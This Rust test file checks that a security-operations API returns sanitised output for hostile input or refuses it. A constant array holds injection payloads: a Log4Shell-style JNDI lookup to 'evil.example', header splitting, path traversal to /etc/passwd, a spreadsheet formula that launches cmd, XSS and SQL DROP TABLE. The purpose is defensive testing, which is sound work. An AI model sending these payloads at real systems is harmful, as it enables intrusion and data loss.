//! Hostile text at every door: it comes back as one leaf, or not at all.

use proptest::prelude::*;
use serde_json::{Value, json};

use super::house::House;
use crate::server::body::Form;
use crate::server::problem::Problem;

/// Quotes, braces, templates, escapes, reordering, line breaks, a formula, a path, a null.
const TEXTS: [&str; 12] = [
    "\"},{\"admin\":true",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "\u{1b}[31mred\u{1b}[0m",
    "pay\u{202e}cod.exe",
    "a\r\nSet-Cookie: x=1",
    "a\u{0}b",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "'; DROP TABLE alerts; --",
    "\u{e0041}\u{e0042}",
    "﷽﷽﷽",
];

fn hides(text: &str) -> bool {
    text.chars().any(|one| {
        one.is_control() || ('\u{202a}'..='\u{202e}').contains(&one) || one >= '\u{e0000}'
    })
}

#[tokio::test]
async fn texts_that_people_read_come_back_clean() {
    let house = House::new().await;
    let id = house.alert("a").await;
    for text in TEXTS {
        let body = json!({ "text": text }).to_string();
        let answer = house
            .ask("analyst", &format!("POST /v1/alerts/{id}/note"), &body)
            .await;
        assert_eq!(answer.status, 200, "{text:?}");
        let notes = answer.json()["notes"].clone();
        let last = notes.as_array().unwrap().last().unwrap()["text"].clone();
        assert!(!hides(last.as_str().unwrap()), "{last}");
        let asked = json!({
            "action": "mlflow/move-alias", "at": "registry", "reason": text, "incident": { "id": text },
            "with": { "model": "m", "version": "1" },
        });
        let asked = house
            .ask("soar", "POST /v1/actions", &asked.to_string())
            .await;
        assert_eq!(asked.status, 202, "{text:?}: {}", asked.body);
        assert!(!hides(asked.json()["reason"].as_str().unwrap()));
        assert_eq!(asked.json()["incident"]["id"], text);
    }
}

#[tokio::test]
async fn texts_that_name_something_name_nothing() {
    let house = House::new().await;
    for text in TEXTS {
        let encoded: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
        let encoded = encoded.replace('+', "%20");
        for request in [
            format!("GET /v1/alerts/{encoded}"),
            format!("GET /v1/alerts?mapping={encoded}"),
            format!("GET /v1/alerts?{encoded}=1"),
            format!("GET /v1/alerts?before={encoded}"),
            format!("GET /v1/actions/{encoded}"),
            format!("GET /v1/actions?ids={encoded}"),
            format!("GET /v1/stuck/{encoded}"),
            format!("GET /v1/dead-letters/{encoded}"),
            format!("POST /v1/dead-letters/{encoded}/drop"),
            format!("POST /v1/signals/{encoded}"),
            format!("POST /v1/signals/local/{encoded}"),
            format!("GET /{encoded}"),
        ] {
            let answer = house.ask("boss", &request, "").await;
            assert!(
                (200..500).contains(&answer.status),
                "{request}: {}",
                answer.status
            );
            let head = answer.head.replace("\r\n", "");
            assert!(!hides(&head), "{request}");
            assert!(answer.json().is_object(), "{request}: {}", answer.body);
        }
        for (key, body) in [
            ("action", json!({ "action": text })),
            ("at", json!({ "action": "mlflow/move-alias", "at": text })),
            (text, json!({ text: 1 })),
            (
                "alert",
                json!({ "action": "mlflow/move-alias", "at": "registry", "alert": text }),
            ),
        ] {
            let answer = house
                .ask("boss", "POST /v1/actions", &body.to_string())
                .await;
            assert!(
                (400..500).contains(&answer.status),
                "{key}: {}",
                answer.body
            );
            let detail = answer.json()["detail"].as_str().unwrap().to_owned();
            assert!(!hides(&detail), "{detail:?}");
        }
    }
}

#[tokio::test]
async fn a_request_id_is_taken_over_only_when_it_is_harmless() {
    let house = House::new().await;
    for request in ["GET /v1/whoami", "GET /nowhere", "POST /v1/signals/local"] {
        let answer = house
            .ask_with(
                "reader",
                request,
                &[("X-Request-ID", "run-1/step:2")],
                b"{}",
            )
            .await;
        assert_eq!(
            answer.header("x-request-id"),
            Some("run-1/step:2"),
            "{request}"
        );
    }
    let long = "x".repeat(200);
    for id in ["a b", "<x>", "\u{1b}[31m", "\u{202e}", "", &long] {
        let answer = house
            .ask_with("reader", "GET /v1/whoami", &[("X-Request-ID", id)], b"")
            .await;
        assert_ne!(answer.header("x-request-id"), Some(id), "{id:?}");
    }
    let made = house.ask("reader", "GET /v1/whoami", "").await;
    assert_eq!(made.header("x-request-id").unwrap().len(), 16);
}

#[tokio::test]
async fn a_bad_idempotency_key_is_refused() {
    let house = House::new().await;
    let body =
        br#"{"action":"mlflow/move-alias","at":"registry","with":{"model":"m","version":"1"}}"#;
    let long = "k".repeat(300);
    for key in ["\"\"", "\u{e9}", &long] {
        let answer = house
            .ask_with(
                "soar",
                "POST /v1/actions",
                &[("Idempotency-Key", key)],
                body,
            )
            .await;
        assert_eq!(
            (answer.status, answer.code().as_str()),
            (400, "bad_key"),
            "{key:?}"
        );
    }
}

proptest! {
    #[test]
    fn a_problem_is_one_object_with_one_clean_line(text in any::<String>(), key in any::<String>()) {
        use axum::response::IntoResponse as _;
        let problem = Problem::conflict("x", &text).with(&key, text.clone());
        let body = problem.into_response().into_body();
        let runtime = tokio::runtime::Builder::new_current_thread().build().unwrap();
        let bytes = runtime.block_on(axum::body::to_bytes(body, usize::MAX)).unwrap();
        let value: Value = serde_json::from_slice(&bytes).unwrap();
        prop_assert!(!hides(value["detail"].as_str().unwrap()));
        prop_assert_eq!(&value["code"], "x");
        if !["detail", "type", "title", "status", "code", "retryable"].contains(&key.as_str()) {
            prop_assert_eq!(value[&key].as_str().unwrap(), text);
        }
    }

    #[test]
    fn any_body_is_read_or_refused(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        if let Ok(mut form) = Form::parse(&bytes, &["a"]) {
            let _ = form.text("a");
            let _ = form.finish();
        }
    }

    #[test]
    fn any_query_is_read_or_refused(query in any::<String>()) {
        let mut form = Form::query(Some(&query), &["limit"]);
        let _ = form.number("limit", 200);
        let _ = form.finish();
    }
}
